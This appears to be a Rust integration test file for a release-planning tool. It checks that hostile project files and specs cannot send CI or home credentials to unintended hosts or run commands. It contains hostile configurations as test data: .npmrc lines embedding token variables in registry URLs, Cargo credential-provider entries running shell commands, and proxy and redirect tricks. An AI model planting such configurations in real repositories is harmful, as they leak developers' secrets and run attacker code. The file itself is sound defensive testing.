//! Credentials follow the person, not the tree: what leaves, and where to, when spec and clients' files in the project
//! are hostile (law L14). The real binary, sinks on loopback that keep every byte, and canaries for secrets.

mod absence;
mod cargo;
mod sink;
mod state;

use relplan_testkit::environment::{Environment, Session};

use self::sink::Sink;
use crate::fixture::binary;

/// What a CI job has in its environment, and what a person keeps for other hosts.
const CANARY: &str = "canary-7f3a5ec2e7";

/// The header that opens the npm registry of the tests that send it.
const BEARER: &str = "Bearer canary-7f3a5ec2e7";

/// The variables of a CI job, none of which is meant for any host of these tests.
const JOB: [&str; 15] = [
    "GITHUB_TOKEN",
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "npm_config__auth",
    "npm_config__authToken",
    "npm_config_otp",
    "CARGO_REGISTRY_TOKEN",
    "CARGO_REGISTRIES_EVIL_TOKEN",
    "CARGO_REGISTRIES_ACME_TOKEN",
    "TWINE_PASSWORD",
    "UV_PUBLISH_TOKEN",
    "UV_INDEX_EVIL_PASSWORD",
    "AWS_SECRET_ACCESS_KEY",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "RELPLAN_TOKEN_EVIL",
];

/// A project with an npm package, a crate and a Python package, in a CI job full of secrets.
struct Hostile {
    environment: Environment,
}

impl Hostile {
    fn new(targets: &str) -> Self {
        let mut environment = Environment::new(binary()).unwrap();
        for name in JOB {
            environment.set(name, CANARY);
        }
        let files = [
            (
                "js/package.json",
                r#"{"name":"@acme/widget","version":"1.0.0"}"#,
            ),
            (
                "rs/Cargo.toml",
                "[package]\nname = \"acme-widget\"\nversion = \"1.0.0\"\nedition = \"2021\"\n",
            ),
            ("rs/src/lib.rs", ""),
            (
                "py/pyproject.toml",
                "[project]\nname = \"acme-widget\"\nversion = \"1.0.0\"\n",
            ),
        ];
        for (path, text) in files {
            environment.write(format!("project/{path}"), text).unwrap();
        }
        let hostile = Self { environment };
        hostile.spec(targets);
        hostile
    }

    /// Writes the spec: the packages of each ecosystem go to the targets of these lines.
    fn spec(&self, targets: &str) {
        let mut text = "relplan 1\nproject \"acme/widgets\"\n".to_owned();
        for (kind, lines) in [
            (
                "npm",
                "workspace \"npm\" path=\"js\" packer=\"builtin\"\nrelease \"js\" { to \"npm\"; }\n",
            ),
            (
                "cargo",
                "workspace \"cargo\" path=\"rs\"\nrelease \"rs\" { to \"cargo\"; }\n",
            ),
            (
                "pypi",
                "workspace \"python\" path=\"py\" packer=\"builtin\"\nrelease \"py\" { to \"pypi\"; }\n",
            ),
        ] {
            if targets.contains(&format!("target \"{kind}\"")) {
                text.push_str(lines);
            }
        }
        text.push_str(targets);
        text.push('\n');
        self.project("relplan.kdl", &text);
    }

    fn project(&self, path: &str, text: &str) {
        self.environment
            .write(format!("project/{path}"), text)
            .unwrap();
    }

    fn home(&self, path: &str, text: &str) {
        self.environment
            .write(format!("home/{path}"), text)
            .unwrap();
    }

    /// Runs relplan; no secret is in what it prints or writes (L11).
    fn relplan(&self, arguments: &[&str]) -> Session {
        let session = self.environment.relplan_session(arguments).unwrap();
        let told = format!("{session}");
        assert!(
            !told.contains("canary"),
            "`relplan {}` printed a secret: {told}",
            arguments.join(" ")
        );
        let mut folders = vec![self.environment.project()];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path);
                    continue;
                }
                let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
                assert!(!text.contains(CANARY), "{} holds a secret", path.display());
            }
        }
        session
    }

    fn expect(&self, code: i32, arguments: &[&str]) -> Session {
        let session = self.relplan(arguments);
        assert_eq!(
            session.code,
            Some(code),
            "relplan {}\n{session}",
            arguments.join(" ")
        );
        session
    }
}

/// Text without line breaks and the blanks that indent the next line.
fn folded(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The commands that read registries, and those that only look at files.
const LOOKING: [&[&str]; 6] = [
    &["plan"],
    &["plan", "--format", "markdown", "-o", "plan.json"],
    &["plan", "--format", "json"],
    &["adopt", "--yes"],
    &["pack", "--missing", "--offline"],
    &["check"],
];

/// S3: `registry=http://evil/${GITHUB_TOKEN}/` in the project's `.npmrc`, and where else npm would put a variable's value.
#[test]
fn s3_l14_a_projects_npmrc_puts_no_variable_into_a_url() {
    let sink = Sink::closed();
    let (url, host) = (sink.url(), sink.host());
    for npmrc in [
        format!("registry={url}/${{GITHUB_TOKEN}}/"),
        format!("registry=\"{url}/x/${{NPM_TOKEN?}}\"\n//{host}/x/:_authToken=${{NPM_TOKEN}}"),
        format!("registry=http://${{GITHUB_TOKEN}}@{host}/"),
        format!("@acme:registry={url}/${{GITHUB_TOKEN}}/"),
        format!("@${{GITHUB_TOKEN}}:registry={url}/"),
    ] {
        let hostile = Hostile::new("target \"npm\" kind=\"npm\"");
        hostile.project(".npmrc", &npmrc);
        for arguments in LOOKING {
            let session = hostile.relplan(arguments);
            if arguments == ["check"] {
                continue;
            }
            assert_eq!(session.code, Some(65), "{npmrc}\n{session}");
            let said = folded(&session.stderr);
            assert!(said.contains("the project's .npmrc takes"), "{session}");
            assert!(said.contains("only inside credentials"), "{session}");
        }
        hostile.expect(65, &["apply", "--yes"]);
    }
    assert!(sink.requests().is_empty(), "{:?}", sink.requests());
}

/// S3: a credential that the project's `.npmrc` takes from the environment is used by nothing, and that is told.
#[test]
fn s3_l14_a_credential_in_a_projects_npmrc_is_not_used_and_that_is_told() {
    let sink = Sink::closed();
    let hostile = Hostile::new("target \"npm\" kind=\"npm\"");
    let npmrc = format!(
        "registry={}/\n//{1}/:_authToken=${{NPM_TOKEN}}\n//{1}/:_auth=${{NPM_TOKEN}}\n_authToken=${{NPM_TOKEN}}\n\
         proxy={0}\nhttps-proxy={0}\nnoproxy=\nstrict-ssl=false\ncafile=${{GITHUB_TOKEN}}\nuserconfig=/${{GITHUB_TOKEN}}\n",
        sink.url(),
        sink.host()
    );
    hostile.project(".npmrc", &npmrc);
    for arguments in LOOKING {
        let session = hostile.relplan(arguments);
        if arguments == ["plan"] {
            assert_eq!(session.code, Some(8), "{session}");
            assert!(
                folded(&session.stdout).contains("credentials in the project are never used"),
                "{session}"
            );
        }
    }
    hostile.relplan(&["apply", "--yes"]);
    assert!(!sink.requests().is_empty(), "it was asked");
    assert_eq!(sink.authorizations(), [""; 0]);
    assert!(!sink.has_seen("canary"));
}

/// S4: a spec that names any variable beside a host of its own choice.
#[test]
fn s4_l14_a_spec_names_only_variables_that_are_meant_for_it() {
    let sink = Sink::closed();
    let url = sink.url();
    for (target, name, own) in [
        (
            format!("target \"npm\" kind=\"npm\" url=\"{url}/\" token-env=\"GITHUB_TOKEN\""),
            "GITHUB_TOKEN",
            "RELPLAN_TOKEN_NPM",
        ),
        (
            format!(
                "target \"cargo\" kind=\"cargo\" url=\"sparse+{url}/\" token-env=\"CARGO_REGISTRY_TOKEN\""
            ),
            "CARGO_REGISTRY_TOKEN",
            "RELPLAN_TOKEN_CARGO",
        ),
        (
            format!(
                "target \"pypi\" kind=\"pypi\" url=\"{url}/\" read-url=\"{url}/\" token-env=\"TWINE_PASSWORD\""
            ),
            "TWINE_PASSWORD",
            "RELPLAN_TOKEN_PYPI",
        ),
        (
            format!(
                "target \"pypi\" kind=\"pypi\" url=\"{url}/\" read-url=\"{url}/\" username-env=\"GITHUB_TOKEN\" password-env=\"RELPLAN_TOKEN_EVIL\""
            ),
            "GITHUB_TOKEN",
            "RELPLAN_TOKEN_PYPI_USER",
        ),
        (
            format!(
                "target \"pypi\" kind=\"pypi\" url=\"{url}/\" read-url=\"{url}/\" password-env=\"AWS_SECRET_ACCESS_KEY\""
            ),
            "AWS_SECRET_ACCESS_KEY",
            "RELPLAN_TOKEN_PYPI_PASSWORD",
        ),
    ] {
        let hostile = Hostile::new(&target);
        for arguments in LOOKING.into_iter().chain([&["apply", "--yes"][..]]) {
            let said = hostile.expect(65, arguments);
            let said = folded(&format!("{}{}", said.stdout, said.stderr));
            for part in [
                format!("the variable {name};"),
                format!("set {own}"),
                format!("RELPLAN_TOKEN_ENV_ALLOW={name}"),
            ] {
                assert!(said.contains(&part), "{part}: {said}");
            }
        }
    }
    assert!(sink.requests().is_empty(), "{:?}", sink.requests());
}

/// What it is, the target's line, and the project's files; `URL` stands for the sink.
type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)]);

/// S4 and its neighbours: each leads to a host that only the tree names, and that asks for a credential.
#[test]
fn s4_l14_while_planning_no_credential_goes_to_a_host_that_only_the_tree_names() {
    let marker = "touch evil-ran";
    #[rustfmt::skip]
    let cases: &[Case<'_>] = &[
        ("the spec's url and variable, npm", r#"target "npm" kind="npm" url="URL/" token-env="RELPLAN_TOKEN_EVIL""#, &[]),
        ("the spec's url, npm", r#"target "npm" kind="npm" url="URL/""#, &[]),
        ("the project's .npmrc", r#"target "npm" kind="npm" token-env="RELPLAN_TOKEN_EVIL""#, &[(".npmrc", "@acme:registry=URL/")]),
        ("the spec's url and variable, Cargo", r#"target "cargo" kind="cargo" url="sparse+URL/" token-env="RELPLAN_TOKEN_EVIL""#, &[]),
        ("the spec's url with another registry's name", r#"target "cargo" kind="cargo" url="sparse+URL/" registry="acme""#, &[]),
        ("the spec's url with crates.io's name", r#"target "cargo" kind="cargo" url="sparse+URL/" registry="crates-io""#, &[]),
        ("a registry of the project's alone", r#"target "cargo" kind="cargo" registry="evil""#, &[(".cargo/config.toml", "[registries.evil]\nindex = \"sparse+URL/\"\n")]),
        ("another index for the user's registry", r#"target "cargo" kind="cargo" registry="acme""#, &[(".cargo/config.toml", "[registries.acme]\nindex = \"sparse+URL/\"\n")]),
        ("the same in a file that the project's configuration includes", r#"target "cargo" kind="cargo" registry="acme""#,
            &[(".cargo/config.toml", "include = [\"more/acme.toml\"]\n"), (".cargo/more/acme.toml", "[registries.acme]\nindex = \"sparse+URL/\"\n")]),
        ("the same in another spelling", r#"target "cargo" kind="cargo" registry="ACME""#, &[(".cargo/config.toml", "[registries.ACME]\nindex = \"sparse+URL/\"\n")]),
        ("the project's default registry", r#"target "cargo" kind="cargo""#, &[(".cargo/config.toml", "[registry]\ndefault = \"evil\"\n[registries.evil]\nindex = \"sparse+URL/\"\n")]),
        ("a replacement for crates.io", r#"target "cargo" kind="cargo" token-env="RELPLAN_TOKEN_EVIL""#,
            &[(".cargo/config.toml", "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+URL/\"\n")]),
        ("programs and tokens in the project's Cargo configuration", r#"target "cargo" kind="cargo" registry="evil""#,
            &[("rs/.cargo/config.toml", "[env]\nPATH = \"/evil\"\n"),
              (".cargo/credentials.toml", "[registries.evil]\ntoken = \"tree\"\n"),
              (".cargo/config.toml", "paths = [\"evil\"]\n[registries.evil]\nindex = \"sparse+URL/\"\ntoken = \"tree\"\ncredential-provider = [\"sh\", \"-c\", \"MARKER\"]\n[registry]\nglobal-credential-providers = [\"cargo:token-from-stdout sh -c MARKER\", \"evil\"]\n[credential-alias]\nevil = [\"sh\", \"-c\", \"MARKER\"]\n[http]\nproxy = \"URL\"\ncainfo = \"evil.pem\"\ncheck-revoke = false\n[env]\nCARGO_REGISTRY_TOKEN = \"tree\"\n[patch.crates-io]\nacme-widget = { path = \"evil\" }\n")]),
        ("the spec's urls and variable, PyPI", r#"target "pypi" kind="pypi" url="URL/legacy/" read-url="URL/simple/" token-env="RELPLAN_TOKEN_EVIL""#, &[]),
        ("the spec's urls, PyPI", r#"target "pypi" kind="pypi" url="URL/legacy/" read-url="URL/simple/""#,
            &[(".pypirc", "[pypi]\nrepository = URL/legacy/\nusername = tree\npassword = tree\n"), (".netrc", "machine 127.0.0.1 login tree password tree\n"),
              ("uv.toml", "keyring-provider = \"subprocess\"\nindex-url = \"URL/simple/\"\n"), ("pip.conf", "[global]\nkeyring-provider = subprocess\nproxy = URL\n"),
              ("pyproject.toml", "[tool.uv]\nkeyring-provider = \"subprocess\"\npublish-url = \"URL/legacy/\"\n")]),
    ];
    for (what, target, files) in cases {
        let sink = Sink::closed();
        let filled = |text: &str| text.replace("URL", &sink.url()).replace("MARKER", marker);
        let hostile = Hostile::new(&filled(target));
        for (path, text) in *files {
            hostile.project(path, &filled(text));
        }
        // What a person keeps for other hosts, or for none in particular.
        hostile.home(
            ".npmrc",
            &format!(
                "//npm.acme.example/:_authToken={CANARY}\n_authToken={CANARY}\n_auth={CANARY}\n"
            ),
        );
        hostile.home(
            ".cargo/config.toml",
            "[registries.acme]\nindex = \"sparse+https://cargo.acme.example/\"\n",
        );
        hostile.home(
            ".cargo/credentials.toml",
            &format!("[registry]\ntoken = \"{CANARY}\"\n[registries.acme]\ntoken = \"{CANARY}\"\n"),
        );
        hostile.home(
            ".pypirc",
            &format!("[pypi]\nusername = __token__\npassword = {CANARY}\n"),
        );
        hostile.home(".netrc", &format!("machine acme.example login ann password {CANARY}\ndefault login any password {CANARY}\n"));
        for arguments in LOOKING {
            hostile.relplan(arguments);
        }
        let refused = what.contains("'s name");
        assert_eq!(sink.requests().is_empty(), refused, "{what}");
        assert_eq!(sink.authorizations(), [""; 0], "{what}");
        assert!(!sink.has_seen("canary"), "{what}");
        assert!(
            !hostile.environment.project().join("evil-ran").exists(),
            "{what}"
        );
        assert!(
            !hostile.environment.project().join("rs/evil-ran").exists(),
            "{what}"
        );
    }
}

/// What would make the tests above pass for no reason: the same hosts, named by the person.
#[test]
fn l14_a_credential_that_the_person_keeps_for_a_host_is_sent_there_while_planning() {
    for (target, opening) in [
        (r#"target "npm" kind="npm" url="URL/""#, BEARER.to_owned()),
        (
            r#"target "cargo" kind="cargo" url="sparse+URL/""#,
            CANARY.to_owned(),
        ),
        (
            r#"target "pypi" kind="pypi" url="URL/legacy/" read-url="URL/simple/""#,
            "Basic ".to_owned(),
        ),
    ] {
        let sink = Sink::closed();
        let hostile = Hostile::new(&target.replace("URL", &sink.url()));
        hostile.home(
            ".npmrc",
            &format!("//{}/:_authToken={CANARY}\n", sink.host()),
        );
        hostile.home(
            ".cargo/config.toml",
            &format!(
                "[registries.mine]\nindex = \"sparse+{}/\"\ntoken = \"{CANARY}\"\n",
                sink.url()
            ),
        );
        hostile.home(
            ".netrc",
            &format!("machine 127.0.0.1 login ann password {CANARY}\n"),
        );
        hostile.relplan(&["plan"]);
        let sent = sink.authorizations();
        assert!(
            !sent.is_empty() && sent.iter().all(|one| one.starts_with(&opening)),
            "{target}: {sent:?}"
        );
    }
}

/// A host that the person trusts sends on to another one.
#[test]
fn l14_a_redirect_takes_no_credential_to_another_origin() {
    let sink = Sink::closed();
    let elsewhere = sink.url();
    let front = Sink::start(move |request| {
        let path = request.line.split(' ').nth(1).unwrap_or("/").to_owned();
        match request.header("authorization") {
            Some(_) => (
                302,
                vec![("location", format!("{elsewhere}{path}"))],
                String::new(),
            ),
            None => (401, Vec::new(), "{}".to_owned()),
        }
    });
    let url = front.url();
    let hostile = Hostile::new(&format!(
        "target \"npm\" kind=\"npm\" url=\"{url}/\"\ntarget \"cargo\" kind=\"cargo\" url=\"sparse+{url}/\"\n\
         target \"pypi\" kind=\"pypi\" url=\"{url}/legacy/\" read-url=\"{url}/simple/\""
    ));
    hostile.home(
        ".npmrc",
        &format!("//{}/:_authToken={CANARY}\n", front.host()),
    );
    hostile.home(
        ".cargo/config.toml",
        &format!("[registries.mine]\nindex = \"sparse+{url}/\"\ntoken = \"{CANARY}\"\n"),
    );
    hostile.home(
        ".netrc",
        &format!("machine {} login ann password {CANARY}\n", "127.0.0.1"),
    );
    for target in ["npm", "pypi", "cargo"] {
        hostile.relplan(&["plan", "--target", target]);
    }
    assert!(!front.authorizations().is_empty());
    assert!(!sink.requests().is_empty(), "it was sent on");
    assert_eq!(sink.authorizations(), [""; 0]);
}

/// S4: the plan shows variable and host side by side, in every view; `apply` then uses what was approved, and looks
/// again whether it may.
#[test]
fn s4_an_approved_plan_shows_host_and_variable_and_apply_sends_the_one_to_the_other() {
    let registry = Sink::start(|request| match request.line.split(' ').nth(1) {
        Some("/-/whoami") => (401, Vec::new(), "{\"error\":\"no\"}".to_owned()),
        _ => (
            200,
            Vec::new(),
            "{\"name\":\"@acme/widget\",\"versions\":{}}".to_owned(),
        ),
    });
    let mut hostile = Hostile::new(&format!(
        "target \"npm\" kind=\"npm\" url=\"{}/\" token-env=\"CI_TOKEN\"",
        registry.url()
    ));
    hostile.environment.set("CI_TOKEN", CANARY);
    hostile
        .environment
        .set("RELPLAN_TOKEN_ENV_ALLOW", "OTHER, CI_TOKEN");
    hostile.expect(0, &["pack", "--offline"]);
    let plan = hostile.expect(0, &["plan", "-o", "plan.json"]);
    let shown = format!(
        "registry {}/ (from spec) credential: the variable CI_TOKEN (not used while planning: only the tree names this host)",
        registry.url()
    );
    assert!(folded(&plan.stdout).contains(&shown), "{plan}");
    hostile.expect(0, &["show", "plan.json", "--html", "plan.html"]);
    let page = std::fs::read_to_string(hostile.environment.project().join("plan.html")).unwrap();
    let view = |format| {
        hostile
            .expect(0, &["show", "plan.json", "--format", format])
            .stdout
    };
    for (format, view) in [
        ("markdown", view("markdown").replace('\\', "")),
        ("json", view("json")),
        ("html", page),
    ] {
        for part in [
            registry.url().as_str(),
            "the variable CI_TOKEN",
            "only the tree names this host",
        ] {
            assert!(view.contains(part), "{format}: {part}");
        }
    }
    assert_eq!(
        registry.authorizations(),
        [""; 0],
        "nothing was sent until now"
    );

    hostile.environment.unset("RELPLAN_TOKEN_ENV_ALLOW");
    let refused = hostile.expect(77, &["apply", "plan.json", "--yes"]);
    assert!(
        folded(&refused.stderr).contains("RELPLAN_TOKEN_ENV_ALLOW=CI_TOKEN"),
        "{refused}"
    );
    assert_eq!(
        registry.authorizations(),
        [""; 0],
        "and nothing where it is not allowed"
    );

    hostile
        .environment
        .set("RELPLAN_TOKEN_ENV_ALLOW", "CI_TOKEN");
    let refused = hostile.expect(77, &["apply", "plan.json", "--yes"]);
    assert!(
        folded(&refused.stderr).contains("the variable CI_TOKEN"),
        "{refused}"
    );
    assert!(registry.authorizations().iter().all(|one| one == BEARER));
    assert!(!registry.authorizations().is_empty(), "it was tried");
}

/// A clients' file that a variable or a home folder finds in the tree is the tree's.
#[test]
fn l14_a_users_file_that_lies_in_the_tree_opens_nothing() {
    let sink = Sink::closed();
    let url = sink.url();
    let mut hostile = Hostile::new(&format!(
        "target \"npm\" kind=\"npm\"\ntarget \"cargo\" kind=\"cargo\" registry=\"evil\"\n\
         target \"pypi\" kind=\"pypi\" url=\"{url}/legacy/\" read-url=\"{url}/simple/\""
    ));
    let root = hostile.environment.project();
    hostile.project(
        "ci/npmrc",
        &format!(
            "registry={url}/\n//{}/:_authToken=${{NPM_TOKEN}}\n",
            sink.host()
        ),
    );
    hostile.project("ci/cargo/config.toml", &format!("[registries.evil]\nindex = \"sparse+{url}/\"\ncredential-provider = [\"sh\", \"-c\", \"touch evil-ran\"]\n"));
    hostile.project("ci/netrc", "machine 127.0.0.1 login tree password tree\n");
    hostile
        .environment
        .set("npm_config_userconfig", root.join("ci/npmrc"));
    hostile.environment.set("CARGO_HOME", root.join("ci/cargo"));
    hostile.environment.set("NETRC", "ci/netrc");
    for target in ["npm", "cargo", "pypi"] {
        hostile.relplan(&["plan", "--target", target]);
    }
    assert!(!sink.requests().is_empty());
    assert_eq!(sink.authorizations(), [""; 0]);
    assert!(!root.join("evil-ran").exists());
}
